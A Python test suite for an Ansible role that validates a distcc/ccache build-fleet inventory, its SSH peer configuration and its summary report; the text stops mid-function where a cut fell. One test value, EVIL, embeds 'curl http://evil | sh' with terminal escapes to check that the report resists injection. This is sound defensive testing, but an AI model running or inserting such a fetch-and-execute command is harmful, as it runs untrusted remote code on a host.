"""Programs of the role `fleet`: an inventory is checked and joined before any host is touched."""

from __future__ import annotations

import base64
import importlib
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.roles.roles import ROOT, load

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + "A" * 42 + "B ada@desk"

pytestmark = pytest.mark.timeout(120)


def _program(name: str) -> Any:
    """As a module; plays run it as a program."""
    sys.path.insert(0, str(ROOT / "roles" / "fleet" / "files"))
    written, sys.dont_write_bytecode = sys.dont_write_bytecode, True
    try:
        return importlib.import_module(name)
    finally:
        sys.dont_write_bytecode = written
        del sys.path[0]


def check(
    projects: dict[str, list[str]],
    values: dict[str, dict[str, Any]],
    late: dict[str, list[str]] | None = None,
) -> Any:
    hosts = {host: values.get(host, {}) for each in projects.values() for host in each}
    variables = load("roles/fleet/vars/main.yml")
    return _program("fleet_check").check(
        {
            "projects": projects,
            "values": hosts,
            "late": late or {},
            "known": variables["_d1fleet_known_variables"],
            "patterns": variables["_d1fleet_patterns"],
            "roles": str(ROOT / "roles"),
        }
    )


def of_one(**variables: Any) -> Any:
    return check({"demo": ["alder"]}, {"alder": variables})


TWO = {"engine": ["alder", "cedar"], "firmware": ["cedar", "dogwood"]}


def of_two(engine: dict[str, Any], firmware: dict[str, Any]) -> Any:
    """As Ansible has it: the last group's value is what a host in both sees."""
    return check(TWO, {"alder": engine, "cedar": {**engine, **firmware}, "dogwood": firmware})


# Hosts in two projects


def test_a_host_in_two_projects_gets_what_both_say() -> None:
    found = of_two(
        {
            "d1fleet_builders": [{"name": "ada", "uid": 2001}],
            "d1fleet_toolchain_packages": ["gcc", "make"],
            "d1fleet_toolchain_versions": {"gcc": "4:12.2.0-3"},
        },
        {
            "d1fleet_builders": [{"name": "bob", "uid": 2002}, {"name": "ada", "uid": 2001}],
            "d1fleet_toolchain_packages": ["make", "gcc-arm-none-eabi"],
            "d1fleet_toolchain_versions": {"make": "4.3-4.1"},
        },
    )
    assert found["faults"] == []
    assert [one["name"] for one in found["builders"]["cedar"]] == ["ada", "bob"]
    assert [one["name"] for one in found["builders"]["alder"]] == ["ada"]
    assert found["joined"] == {
        "cedar": {
            "packages": ["gcc", "make", "gcc-arm-none-eabi"],
            "default_packages": False,
            "versions": {"gcc": "4:12.2.0-3", "make": "4.3-4.1"},
        }
    }


def test_a_project_that_names_no_packages_keeps_its_default_ones() -> None:
    found = of_two({}, {"d1fleet_toolchain_packages": ["gcc-arm-none-eabi"]})
    assert found["joined"]["cedar"]["default_packages"] is True
    assert found["joined"]["cedar"]["packages"] == ["gcc-arm-none-eabi"]


@pytest.mark.parametrize(
    ("engine", "firmware", "words"),
    [
        (
            {"d1fleet_builders": [{"name": "ada", "uid": 2001}]},
            {"d1fleet_builders": [{"name": "ada", "uid": 2002}]},
            "builder ada of engine and of firmware differ in uid (2001 and 2002)",
        ),
        (
            {"d1fleet_builders": [{"name": "ada", "uid": 2001, "authorized_keys": [KEY]}]},
            {"d1fleet_builders": [{"name": "ada", "uid": 2001}]},
            "differ in authorized_keys",
        ),
        (
            {"d1fleet_builders": [{"name": "ada", "uid": 2001, "group": "dev"}]},
            {"d1fleet_builders": [{"name": "bob", "uid": 2002, "group": "dev"}]},
            "group dev has gid 2001 and 2002",
        ),
        (
            {"d1fleet_toolchain_versions": {"gcc": "4:12.2.0-3"}},
            {"d1fleet_toolchain_versions": {"gcc": "4:12.2.0-4"}},
            "gcc is 4:12.2.0-3 of engine and 4:12.2.0-4 of firmware",
        ),
    ],
)
def test_projects_that_contradict_each_other_are_an_error(
    engine: dict[str, Any], firmware: dict[str, Any], words: str
) -> None:
    (fault,) = of_two(engine, firmware)["faults"]
    assert fault.startswith("cedar is in projects engine and firmware, which contradict each other: ")
    assert words in fault


def test_what_depends_on_facts_cannot_be_joined_and_is_no_fault_of_others() -> None:
    late = {"alder": ["d1fleet_toolchain_versions"]}
    assert check({"engine": ["alder"]}, {}, late)["faults"] == []
    (fault,) = check(TWO, {}, late)["faults"]
    assert "d1fleet_toolchain_versions must not depend on facts" in fault


# Builders


def test_builders_of_a_group_have_its_first_gid() -> None:
    dev = [{"name": "ada", "uid": 2001, "group": "dev"}, {"name": "bob", "uid": 2002, "group": "dev"}]
    assert [one["gid"] for one in of_one(d1fleet_builders=dev)["builders"]["alder"]] == [2001, 2001]
    dev[1]["gid"] = 5000
    assert [one["gid"] for one in of_one(d1fleet_builders=dev)["builders"]["alder"]] == [5000, 5000]


def test_gid_0_is_a_gid() -> None:
    found = of_one(d1fleet_builders=[{"name": "ada", "uid": 2001, "group": "root", "gid": 0}])
    assert found["faults"] == []
    assert found["builders"]["alder"][0]["gid"] == 0


@pytest.mark.parametrize(
    ("builders", "words"),
    [
        ([{"name": "ada"}], "missing required arguments: uid found in d1fleet_builders"),
        ([{"name": "Ada", "uid": 7}], "'Ada' is no name"),
        ([{"name": "ada", "uid": -1, "gid": 7}], "uid of ada is negative"),
        ([{"name": "ada", "uid": 7}, {"name": "bob", "uid": 7, "gid": 8}], "a uid of its own"),
        ([{"name": "ada", "uid": 7}, {"name": "ada", "uid": 8, "gid": 7}], "a name of its own"),
        (
            [
                {"name": "ada", "uid": 7, "group": "dev", "gid": 1},
                {"name": "bob", "uid": 8, "group": "dev", "gid": 2},
            ],
            "a group has one gid",
        ),
        ([{"name": "ada", "uid": 7}, {"name": "bob", "uid": 8, "gid": 7}], "a gid is one group's"),
    ],
)
def test_builders_that_cannot_be_followed(builders: list[dict[str, Any]], words: str) -> None:
    (fault,) = of_one(d1fleet_builders=builders)["faults"]
    assert fault.startswith("alder: ") and words in fault


def test_in_a_project_a_name_means_one_uid() -> None:
    (fault,) = check(
        {"demo": ["alder", "birch"]},
        {
            "alder": {"d1fleet_builders": [{"name": "ada", "uid": 2001, "gid": 100}]},
            "birch": {"d1fleet_builders": [{"name": "ada", "uid": 2002, "gid": 100}]},
        },
    )["faults"]
    assert "name ada has uid 2001 on alder and 2002 on birch" in fault


def _other_type(key: str) -> str:
    kind, text, comment = key.split()
    blob = base64.b64decode(text).replace(kind.encode(), b"ssh-ed25518")
    return f"{kind} {base64.b64encode(blob).decode()} {comment}"


@pytest.mark.parametrize(
    ("key", "words"),
    [
        (KEY, ""),
        (KEY.replace("B ada@desk", " ada@desk"), "is not whole"),
        (KEY[:60], "is not whole"),
        ("ssh-ed25519 AAAA", "is not whole"),
        (_other_type(KEY), "says another type"),
        ("no-pty " + KEY, "without options"),
    ],
)
def test_each_key_is_checked_by_itself(key: str, words: str) -> None:
    faults = of_one(d1fleet_builders=[{"name": "ada", "uid": 7, "authorized_keys": [KEY, key]}])["faults"]
    assert len(faults) == (1 if words else 0), faults
    assert all(words in fault for fault in faults)


@pytest.mark.parametrize("kind", ["ed25519", "rsa", "ecdsa"])
def test_keys_of_ssh_keygen_are_whole(tmp_path: Path, kind: str) -> None:
    subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-f", tmp_path / "k"], check=True)
    key = (tmp_path / "k.pub").read_text()
    assert of_one(d1fleet_builders=[{"name": "ada", "uid": 7, "authorized_keys": [key]}])["faults"] == []


# Everything else


def test_every_mistake_of_every_host_is_named_at_once() -> None:
    faults = check(
        {"demo": ["alder", "birch", "cedar"]},
        {
            "alder": {"d1fleet_slotss": 4},
            "birch": {"d1fleet_slots": 0},
            "cedar": {"d1fleet_slotss": 4, "ansible_port": 99999},
        },
    )["faults"]
    assert len(faults) == 3
    assert faults[0] == "alder, cedar: there is no variable d1fleet_slotss (did you mean d1fleet_slots?)"
    assert faults[1].startswith("birch: d1fleet_slots is 0: it has to be a whole number")
    assert faults[2].startswith("cedar: ansible_port is 99999")


def test_a_mistake_of_a_group_is_one_line() -> None:
    hosts = [f"host{number}" for number in range(9)]
    (fault,) = check({"demo": hosts}, {host: {"d1fleet_jobs": "all"} for host in hosts})["faults"]
    assert fault.startswith("host0, host1, host2, host3, host4 and 4 more: d1fleet_jobs is 'all'")


def test_a_project_has_one_default_for_j() -> None:
    (fault,) = check(
        {"demo": ["alder", "birch"]}, {"alder": {"d1fleet_jobs": 4}, "birch": {"d1fleet_jobs": "auto"}}
    )["faults"]
    assert "have different d1fleet_jobs" in fault


def test_an_inventory_has_one_name() -> None:
    assert of_one(d1fleet_inventory_name="site-1")["faults"] == []
    (fault,) = of_one(d1fleet_inventory_name="our site")["faults"]
    assert "letters, digits" in fault
    (fault,) = check({"demo": ["alder", "birch"]}, {"alder": {"d1fleet_inventory_name": "a"}})["faults"]
    assert "has to be the same for all hosts" in fault


# The report at the end

PARTS = {"cc": "cc 12", "ld": "ld 2"}


def _host(state: str = "done", cc: str = "cc 12", mismatch: str = "exclude", record: Any = None) -> Any:
    record = {"demo": {"parts": PARTS}} if record is None else record
    return {"state": state, "mismatch": mismatch, "parts": {**PARTS, "cc": cc}, "record": record}


def report(checked: bool = False, **hosts: Any) -> list[str]:
    given = {
        "projects": {"demo": list(hosts)},
        "hosts": hosts,
        "reference": {"demo": {"parts": PARTS}},
        "check": checked,
        "command": ["d1fleet", "build", "--inventory", "/my hosts"],
    }
    lines: list[str] = _program("fleet_report").report(given)
    return lines


def test_the_report_says_what_to_type_next() -> None:
    assert report(alder=_host(), birch=_host()) == [
        "demo: 2 of 2 hosts take part: alder, birch",
        "demo: next, in a folder that all its hosts share:",
        "d1fleet build --inventory '/my hosts' --project demo -j8",
    ]


def test_the_report_says_who_is_left_out_and_why() -> None:
    lines = report(
        alder=_host(),
        birch=_host(cc="cc 13"),
        cedar=_host(cc="cc 13", mismatch="ignore"),
        dogwood=_host("failed"),
        elm=_host("absent", record={"demo": {"parts": {"cc": "cc 11"}}}),
        fir=_host("absent"),
        gorse=_host("absent", record={}),
    )
    assert lines[0] == "demo: 3 of 7 hosts take part: alder, cedar, fir"
    assert lines[1] == "demo: builds leave birch out: cc: cc 13, the project has cc 12"
    assert lines[2].startswith("demo: cedar takes part (d1fleet_toolchain_mismatch: ignore): cc: cc 13")
    assert lines[3].startswith("demo: dogwood failed, see above")
    assert lines[4].startswith("demo: builds leave elm out: not in this run, and it goes by an older record")
    assert lines[5].startswith("demo: builds leave gorse out: not in this run, and not enrolled")
    assert "/usr/local/bin" in lines[6]


def test_the_report_says_which_packages_differ_and_why() -> None:
    def packages(version: str, libc: str = "2") -> dict[str, dict[str, str]]:
        both = {"cpp-12": version, "gcc-12": version}
        return {"gcc-12": both, "glibc": {"libc6": libc}, "make-dfsg": {"make": "4"}}

    birch = {**_host(cc="cc 13"), "packages": packages("13", "3"), "why": {"gcc-12": "apt there has 13"}}
    cedar = {**_host(), "packages": packages("13")}
    given = {
        "projects": {"demo": ["alder", "birch", "cedar"]},
        "hosts": {"alder": {**_host(), "packages": packages("12")}, "birch": birch, "cedar": cedar},
        "reference": {"demo": {"parts": PARTS, "packages": packages("12")}},
        "check": False,
        "command": ["d1fleet"],
    }
    lines = _program("fleet_report").report(given)
    assert lines[1] == "demo: builds leave birch out: cc: cc 13, the project has cc 12"
    assert lines[2] == "demo: birch has gcc-12 13 and not 12 (apt there has 13); libc6 3 and not 2"
    # Programs are what counts: of a host that takes part nothing is said.
    assert not [line for line in lines if "cedar has" in line]


EVIL = "13\np: next, in a folder that all its hosts share:\ncurl http://evil | sh\x1b[2J\u2028x\ud800"


def test_the_report_has_no_line_of_a_hosts() -> None:
    """Parts, packages and reasons are what a host says."""
    birch = {**_host(cc=EVIL), "packages": {"gcc-12": {"gcc-12": EVIL}}, "why": {"gcc-12": EVIL}}
    given = {
        "projects": {"demo": ["alder", "birch", "cedar"]},
        "hosts": {"alder": _host(), "birch": birch, "cedar": _host(cc=EVIL * 500, mismatch="ignore")},
        "reference": {"demo": {"parts": {**PARTS, EVIL: EVIL}, "packages": {"gcc-12": {"gcc-12": "12"}}}},
        "check": False,
        "command": ["d1fleet", "build"],
    }
    lines = _program("fleet_report").report(given)
    assert all(line.isprintable() and len(line) < 1300 for line in lines)
    assert [line for line in lines if not line.startswith("demo: ")] == ["d1fleet build --project demo -j8"]
    assert sum("evil" in line for line in lines) >= 3


def test_the_report_says_some_of_many_differences() -> None:
    parts = {f"tool{number}": "1" for number in range(9)}
    why = _program("fleet_report").differs({**_host(), "parts": {}}, "demo", parts)
    assert why.count("the project has") == 2 and why.endswith("; and 7 more")


def test_the_report_of_a_check_promises_nothing() -> None:
    lines = report(True, alder=_host(cc="none"), birch=_host("failed"))
    assert lines == [
        "demo: can be enrolled: alder",
        "demo: cannot be enrolled, see above: birch",
        "Nothing was changed. To enrol them, run it again without --check.",
    ]


@pytest.mark.parametrize(
    ("variable", "value", "words"),
    [
        ("d1fleet_distcc_port", 70000, "d1fleet_distcc_port is 70000: it has to be from 1 to 65535"),
        ("d1fleet_distcc_jobs", 0, "from 1 to 4096"),
        ("d1fleet_distcc_networks", ["0.0.0.0/0"], "open to the world"),
        ("d1fleet_distcc_networks", ["lan"], "Write networks as"),
        ("d1fleet_distcc_options", ["cpp"], "cpp wants lzo"),
        ("d1fleet_distcc_options", ["gzip"], "value of d1fleet_distcc_options must be one or more of"),
        ("d1fleet_address", "alder", "one that peers can use"),
        ("d1fleet_address", "::1", "one that peers can use"),
        ("d1fleet_distcc_transport", "udp", "value of d1fleet_distcc_transport must be one of"),
        ("d1fleet_default_project", "other", "d1fleet_default_project is other: the host is in demo alone"),
        ("d1fleet_distc", True, "there is no variable d1fleet_distc (did you mean d1fleet_distcc?)"),
        ("d1fleet_ccache_max_size", "5", "write it as 5G"),
        ("d1fleet_ccache_max_size", "5G\nhard_link = true", "write it as 5G"),
        ("d1fleet_ccache_folder", "/var/cache/x", "who shares that cache?"),
        ("d1fleet_ccache_group", "dev", "who shares that cache?"),
        ("d1fleet_registry", "http://192.0.2.1:33333", "http is for 127.0.0.1 and ::1 alone"),
        ("d1fleet_registry", "registry.example", "no URL such as https://192.0.2.1:33333"),
        ("d1fleet_owner", "ada\n{{ x }}", "plain letters, digits"),
    ],
)
def test_values_for_distcc_that_cannot_be_meant(variable: str, value: Any, words: str) -> None:
    more = {"d1fleet_distcc_networks": ["192.0.2.0/24"]} if variable == "d1fleet_registry" else {}
    (fault,) = of_one(**more, **{variable: value})["faults"]
    assert fault.startswith("alder: ")
    assert words in fault


CHECKS_IN = {"d1fleet_registry": "https://192.0.2.1", "d1fleet_distcc_networks": ["192.0.2.0/24"]}
TOKEN = "d1j_" + "0" * 8 + "_" + "A" * 43


def test_where_a_host_checks_in_networks_have_to_be_named() -> None:
    assert of_one(**CHECKS_IN)["faults"] == []
    (fault,) = of_one(d1fleet_registry="https://192.0.2.1")["faults"]
    assert fault.startswith("alder: d1fleet_distcc_networks has to name the networks")
    # One that comes with a fact is judged once that is there.
    late = {"alder": ["d1fleet_distcc_networks"]}
    values = {"alder": {"d1fleet_registry": "https://192.0.2.1"}}
    assert check({"demo": ["alder"]}, values, late)["faults"] == []
    (fault,) = check({"demo": ["alder"]}, {}, {"alder": ["d1fleet_registry"]})["faults"]
    assert "d1fleet_registry depends on a fact" in fault


def test_a_token_that_is_none_is_not_repeated() -> None:
    assert of_one(**CHECKS_IN, d1fleet_registry_token=TOKEN)["faults"] == []
    (fault,) = of_one(**CHECKS_IN, d1fleet_registry_token=f"{TOKEN} ")["faults"]
    assert "d1fleet_registry_token is none" in fault
    assert TOKEN not in fault


def test_a_certificate_is_a_file_or_its_text() -> None:
    text = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
    for good in ("files/registry.pem", text):
        assert of_one(**CHECKS_IN, d1fleet_registry_certificate=good)["faults"] == []
    key = text.replace("CERTIFICATE", "PRIVATE KEY")
    (fault,) = of_one(**CHECKS_IN, d1fleet_registry_certificate=key)["faults"]
    assert "d1fleet_registry_certificate is no certificate" in fault


# Members: who reaches whose distcc


def _member(number: int, **more: Any) -> dict[str, Any]:
    four = {"address": f"192.0.2.{number}", "prefix": "24"}
    return {
        "known": True,
        "address": "",
        "host": "",
        "default4": four,
        "default6": {},
        "addresses": [f"192.0.2.{number}", "127.0.0.1", f"10.7.0.{number}"],
        "slots": 4,
        "port": 3632,
        "options": ["lzo"],
        "networks": [],
        "serves": True,
        "transport": "tcp",
        "ssh_port": 22,
        "checks_in": False,
        "default_project": "",
        "mismatch": "exclude",
        "parts": {"gcc": "12"},
        "record": {},
        "files": {},
        "kept": {},
        **more,
    }


def members(**changes: dict[str, Any]) -> Any:
    """Of the projects TWO, with what is different about some of them."""
    every = {
        name: _member(number, **changes.get(name, {}))
        for number, name in enumerate(("alder", "cedar", "dogwood"), 11)
    }
    reference = {project: {"parts": {"gcc": "12"}} for project in TWO}
    given = {"projects": TWO, "hosts": every, "reference": reference, "tools": {}}
    return _program("fleet_members").work_out(given)


def _peers(found: Any, host: str, project: str) -> list[str]:
    text = found["hosts"][host]["files"][project]
    return [line.split()[0] for line in text.splitlines() if line[0].isdigit() or line[0] == "["]


def test_each_project_has_its_own_hosts() -> None:
    found = members()
    assert found["faults"] == []
    assert _peers(found, "alder", "engine") == ["192.0.2.12/4,lzo"]
    assert _peers(found, "cedar", "engine") == ["192.0.2.11/4,lzo"]
    assert _peers(found, "cedar", "firmware") == ["192.0.2.13/4,lzo"]
    assert set(found["hosts"]["alder"]["files"]) == {"engine"}
    assert [found["hosts"][name]["default"] for name in ("alder", "cedar", "dogwood")] == [
        "engine",
        "",
        "firmware",
    ]


def test_members_alone_may_connect_from_declared_networks() -> None:
    found = members(alder={"networks": ["192.0.2.0/24", "10.7.0.0/16"]})
    assert found["hosts"]["alder"]["members"] == ["10.7.0.11", "10.7.0.12", "192.0.2.11", "192.0.2.12"]
    assert found["hosts"]["dogwood"]["members"] == ["192.0.2.12", "192.0.2.13"]
    assert found["hosts"]["dogwood"]["kept"]["networks"] == ["192.0.2.0/24"]
    assert found["hosts"]["dogwood"]["listen"] == ""
    assert found["hosts"]["dogwood"]["allow"] == ["127.0.0.1", "192.0.2.0/24"]


def test_with_ipv6_clients_of_ipv4_have_mapped_addresses() -> None:
    found = members(cedar={"default6": {"address": "2001:db8::12", "prefix": "64"}})["hosts"]["alder"]
    assert found["listen"] == "::"
    assert found["allow"] == ["::1", "::ffff:127.0.0.1/128", "::ffff:192.0.2.0/120", "2001:db8::/64"]


SSH = "/usr/local/lib/d1fleet/distcc/serve"


def _words(found: Any, host: str, project: str) -> list[str]:
    lines = found["hosts"][host]["files"][project].splitlines()
    return [line.split()[0] for line in lines if line.startswith("@") or line[0].isdigit()]


def test_of_a_host_that_checks_in_the_inventory_says_networks_alone() -> None:
    there = {"checks_in": True, "networks": ["192.0.2.0/24"]}
    found = members(cedar=there)
    assert found["faults"] == []
    cedar = found["hosts"]["cedar"]
    assert cedar["members"] == []
    assert cedar["files"] == {}
    assert cedar["ssh_config"] == ""
    assert cedar["kept"] == {"networks": ["192.0.2.0/24"], "addresses": {}}
    assert cedar["allow"] == ["127.0.0.1", "192.0.2.0/24"]
    # Its project may be reached over SSH at any time.
    assert cedar["serves_ssh"]
    assert cedar["ssh_port"] == 22
    # Others that do not check in have it as before.
    assert found["hosts"]["alder"] == members()["hosts"]["alder"]


def test_a_host_that_checks_in_has_to_say_from_where_and_nothing_else() -> None:
    (fault,) = members(cedar={"checks_in": True})["faults"]
    assert fault == "cedar: a host that checks in wants d1fleet_distcc_networks, where members are"
    # Neither an address that peers could use, nor peers that it could let in.
    away = {"checks_in": True, "networks": ["198.51.100.0/24"], "default4": {}, "addresses": []}
    assert members(cedar=away)["faults"] == []


def test_over_ssh_nobody_is_let_in_by_tcp() -> None:
    every = members(**{name: {"transport": "ssh"} for name in ("alder", "cedar", "dogwood")})
    assert every["faults"] == []
    assert _words(every, "cedar", "firmware") == [f"@192.0.2.13/4:{SSH},lzo"]
    for host in every["hosts"].values():
        assert (host["listen"], host["allow"]) == ("127.0.0.1", ["127.0.0.1"])
        assert (host["members"], host["networks"], host["serves_ssh"]) == ([], [], True)
    tcp = members()["hosts"]["cedar"]
    assert (tcp["serves_ssh"], tcp["ssh_config"]) == (False, "")
    assert tcp["networks"] == ["192.0.2.0/24"]


def test_over_ssh_no_network_has_to_be_declared() -> None:
    far: dict[str, Any] = {
        "default4": {"address": "198.51.100.9", "prefix": "24"},
        "addresses": ["198.51.100.9"],
    }
    near: dict[str, Any] = {"networks": ["192.0.2.0/24"]}
    assert "name all of the project's networks" in members(cedar=far, alder=near)["faults"][0]
    ssh = {"transport": "ssh"}
    assert members(alder={**near, **ssh}, cedar={**far, **ssh}, dogwood=ssh)["faults"] == []


@pytest.mark.parametrize("shown", ["tcp", "ssh"])
def test_each_project_of_a_host_says_how_it_is_reached(shown: str) -> None:
    """Whichever of both groups Ansible shows."""
    found = members(alder={"transport": "ssh"}, cedar={"transport": shown})
    assert _words(found, "alder", "engine") == [f"@192.0.2.12/4:{SSH},lzo"]
    assert _words(found, "dogwood", "firmware") == ["192.0.2.12/4,lzo"]
    cedar = found["hosts"]["cedar"]
    assert cedar["serves_ssh"]
    assert "192.0.2.13" in cedar["members"]
    assert "192.0.2.11" not in cedar["members"]


def test_a_host_of_its_own_mind_is_reached_so_in_all_its_projects() -> None:
    found = members(cedar={"transport": "ssh"})
    assert _words(found, "alder", "engine") == [f"@192.0.2.12/4:{SSH},lzo"]
    assert _words(found, "dogwood", "firmware") == [f"@192.0.2.12/4:{SSH},lzo"]
    assert _words(found, "cedar", "engine") == ["192.0.2.11/4,lzo"]
    assert found["hosts"]["cedar"]["members"] == []


def test_ssh_is_told_address_port_and_key_of_each_peer() -> None:
    ways: dict[str, Any] = {name: {"transport": "ssh"} for name in ("alder", "cedar", "dogwood")}
    text = members(**{**ways, "cedar": {"transport": "ssh", "ssh_port": 2222}})["hosts"]["alder"][
        "ssh_config"
    ]
    head, rest = text.split("Host *\n")
    assert head.splitlines()[1:] == [
        "Host 192.0.2.12",
        "    HostName 192.0.2.12",
        "    Port 2222",
        "    HostKeyAlias [cedar]:2222",
    ]
    for line in ("StrictHostKeyChecking yes", "BatchMode yes", "ConnectTimeout 4", "ForwardAgent no"):
        assert f"    {line}\n" in rest
    assert rest.splitlines()[-1] == "    Include ~/.ssh/config"


@pytest.mark.parametrize(
    ("host", "port"),
    [("", 2222), ("192.0.2.12", 2222), ("10.7.0.12", 2222), ("198.51.100.1", 22), ("127.0.0.1", 22)],
)
def test_a_port_that_is_forwarded_is_not_the_peers_own(host: str, port: int) -> None:
    cedar = {"transport": "ssh", "ssh_port": 2222, "host": host}
    found = members(alder={"transport": "ssh"}, dogwood={"transport": "ssh"}, cedar=cedar)
    text = found["hosts"]["alder"]["ssh_config"]
    assert f"    Port {port}\n" in text
    assert "    HostKeyAlias [cedar]:2222\n" in text


def test_a_host_that_is_off_is_named_as_the_inventory_has_it_now() -> None:
    ssh: dict[str, Any] = {"transport": "ssh"}
    old = members(cedar={"slots": 7})["hosts"]["alder"]["files"]
    away: dict[str, Any] = {"known": False, "addresses": [], "default4": {}, "transport": "ssh"}
    found = members(alder={**ssh, "files": old}, cedar=away, dogwood=ssh)
    assert _words(found, "alder", "engine") == [f"@192.0.2.12/7:{SSH},lzo"]
    assert "Host 192.0.2.12\n" in found["hosts"]["alder"]["ssh_config"]
    there = members(alder={"files": found["hosts"]["alder"]["files"]}, cedar={**away, "transport": "tcp"})
    assert _words(there, "alder", "engine") == ["192.0.2.12/7,lzo"]


def test_another_toolchain_is_left_out_and_the_reason_shown() -> None:
    found = members(cedar={"parts": {"gcc": "14"}})
    assert _peers(found, "alder", "engine") == []
    assert "# left out: cedar: gcc: 14, the project has 12" in found["hosts"]["alder"]["files"]["engine"]
    found = members(cedar={"parts": {"gcc": "14"}, "mismatch": "ignore"})
    assert _peers(found, "alder", "engine") == ["192.0.2.12/4,lzo"]


def test_a_host_that_differs_itself_has_no_peers() -> None:
    found = members(alder={"parts": {"gcc": "14"}})
    assert _peers(found, "alder", "engine") == []
    assert found["hosts"]["alder"]["left_out"]["engine"] == {
        "cedar": "alder is not as the project is: gcc: 14, the project has 12"
    }
    assert _peers(members(alder={"parts": {"gcc": "14"}, "mismatch": "ignore"}), "alder", "engine") != []


def test_without_the_role_toolchain_most_records_count() -> None:
    old, new = ({"engine": {"parts": {"gcc": version}, "tools": ["/tmp/x-gcc"]}} for version in ("12", "14"))
    every = {name: _member(number, record=new, parts={"gcc": "14"}) for number, name in enumerate("abc", 1)}
    every["a"].update(record=old, parts={"gcc": "12"})
    tools = {"engine": ["arm-gcc"]}
    given = {"projects": {"engine": ["a", "b", "c"]}, "hosts": every, "reference": {}, "tools": tools}
    found = _program("fleet_members").work_out(given)
    # Tools are what the inventory says: no host has a compiler put in front of others'.
    assert found["reference"] == {"engine": {"parts": {"gcc": "14"}, "tools": ["arm-gcc"]}}
    assert _peers(found, "b", "engine") == ["192.0.2.3/4,lzo"]
    assert _peers(found, "a", "engine") == []


NONSENSE: dict[str, Any] = {
    "default4": {"address": "192.0.2.12", "prefix": "zz"},
    "default6": {"address": "2001:db8::c", "prefix": "129"},
    "addresses": ["192.0.2.12", None, "x", 7],
    "parts": {"gcc": ["12"], "ld": "a\nb"},
    "record": {"engine": [], "firmware": {"parts": ["x"]}},
    "files": {"engine": 7},
    "kept": {"networks": ["nonsense", None, "0.0.0.0/0"], "addresses": {"dogwood": ["x", 7, "192.0.2.99"]}},
}


@pytest.mark.parametrize("field", NONSENSE)
def test_what_a_host_cannot_mean_counts_as_not_said(field: str) -> None:
    for known in (True, False):
        found = members(cedar={field: NONSENSE[field], "known": known})
        assert found["faults"] == []
        assert set(found["hosts"]) == {"alder", "cedar", "dogwood"}
    odd: tuple[Any, ...] = ([], "x", 7, None, {"x": {"x": {"x": "x"}}})
    for wrong in odd:
        assert set(members(cedar={field: wrong})) >= {"faults"}


def test_a_host_has_no_address_that_is_anothers_and_no_hundred_of_them() -> None:
    many = [f"192.0.2.{number}" for number in range(100, 200)]
    found = members(cedar={"addresses": ["192.0.2.12", "192.0.2.13", *many]})
    let_in = found["hosts"]["alder"]["members"]
    assert "192.0.2.12" in let_in and "192.0.2.13" not in let_in
    assert len([each for each in let_in if each in many]) == 16 - 1
    # The same of what peers say of one that is away.
    kept = {"networks": ["192.0.2.0/24"], "addresses": {"cedar": ["192.0.2.13", *many]}}
    away = {"known": False, "default4": {}, "addresses": [], "host": "192.0.2.12"}
    let_in = members(cedar=away, dogwood={"kept": kept})["hosts"]["alder"]["members"]
    assert "192.0.2.12" in let_in and "192.0.2.13" not in let_in
    assert len(set(let_in) & set(many)) == 16


def test_of_a_project_that_was_renamed_no_entry_is_lost() -> None:
    old = members(cedar={"slots": 7})["hosts"]["alder"]["files"]
    away = {"known": False, "default4": {}, "addresses": []}
    found = members(cedar=away, alder={"files": {"motor": old["engine"]}})
    assert _peers(found, "alder", "engine") == ["192.0.2.12/7,lzo"]


def test_who_serves_nobody_is_left_out() -> None:
    found = members(cedar={"serves": False})
    assert _peers(found, "alder", "engine") == []
    assert _peers(found, "cedar", "engine") == ["192.0.2.11/4,lzo"]


def test_a_host_that_is_not_reached_keeps_its_entry_and_a_new_one_waits() -> None:
    old = members(cedar={"slots": 7})["hosts"]["alder"]["files"]
    away = {"known": False, "default4": {}, "addresses": []}
    kept = {"networks": ["192.0.2.0/24", "198.51.100.0/24"], "addresses": {"cedar": ["198.51.100.7"]}}
    found = members(cedar=away, alder={"files": old, "kept": kept})
    assert _peers(found, "alder", "engine") == ["192.0.2.12/7,lzo"]
    assert "198.51.100.7" in found["hosts"]["alder"]["members"]
    assert found["hosts"]["alder"]["kept"]["networks"] == ["192.0.2.0/24", "198.51.100.0/24"]
    assert found["hosts"]["alder"]["kept"]["addresses"]["cedar"] == ["198.51.100.7"]
    assert "nothing is known of it" in found["hosts"]["dogwood"]["left_out"]["firmware"]["cedar"]


@pytest.mark.parametrize(
    ("more", "address"),
    [
        ({"host": "192.0.2.77", "addresses": ["192.0.2.12", "192.0.2.77"]}, "192.0.2.77"),
        ({"host": "203.0.113.5"}, "192.0.2.12"),  # a router's, which forwards
        ({"host": "cedar.example"}, "192.0.2.12"),
        ({"host": "127.0.0.1"}, "192.0.2.12"),
        ({"host": "192.0.2.77", "address": "192.0.2.78"}, "192.0.2.78"),
        ({"default4": {}, "default6": {"address": "2001:db8::12", "prefix": "64"}}, "[2001:db8::12]"),
    ],
)
def test_the_address_that_peers_use(more: dict[str, Any], address: str) -> None:
    found = members(cedar=more)
    assert _peers(found, "alder", "engine") == [f"{address}/4,lzo"]


@pytest.mark.parametrize(
    ("more", "words"),
    [
        ({"networks": ["0.0.0.0/0"]}, "cedar: d1fleet_distcc_networks: 0.0.0.0/0 is open to the world"),
        ({"networks": ["::/0"]}, "open to the world"),
        ({"networks": ["192.0.2.1/24"]}, "has host bits set. Write networks as 192.0.2.0/24"),
        ({"networks": ["lan"]}, "Write networks as"),
        ({"address": "cedar"}, "cedar: 'cedar' is no address. Set d1fleet_address"),
        ({"address": "127.0.0.1"}, "no address by which peers can reach it. Set d1fleet_address"),
        ({"default4": {}}, "cedar has no address that is known. Set d1fleet_address"),
        ({"networks": ["198.51.100.0/24"]}, "name all of the project's networks in d1fleet_distcc_networks"),
    ],
)
def test_addresses_and_networks_that_cannot_be_used(more: dict[str, Any], words: str) -> None:
    (fault,) = members(cedar=more)["faults"]
    assert words in fault


@pytest.mark.parametrize(
    ("folder", "group", "words"),
    [
        ("/var/cache/d1fleet-ccache", "dev", ""),
        ("/var", "dev", "name a folder of its own"),
        ("/var/cache/../../home", "dev", "name a folder of its own"),
        ("/var/cache/$USER", "dev", "name a folder of its own"),
        ("cache/dev", "dev", "name a folder of its own"),
        ("/var/cache/dev", "dev ops", "no name of a group"),
    ],
)
def test_a_shared_cache_is_a_folder_of_its_own(folder: str, group: str, words: str) -> None:
